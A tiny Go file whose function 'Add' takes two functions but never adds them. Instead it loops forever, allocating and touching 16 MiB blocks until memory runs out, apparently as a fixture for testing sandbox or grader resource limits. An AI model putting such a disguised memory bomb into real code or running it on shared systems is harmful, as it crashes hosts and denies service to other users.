package pair

func Add(f, g func() int) int {
	var all [][]byte
	for {
		block := make([]byte, 16<<20)
		for i := 0; i < len(block); i += 1 << 10 {
			block[i] = 1
		}
		all = append(all, block)
	}
}
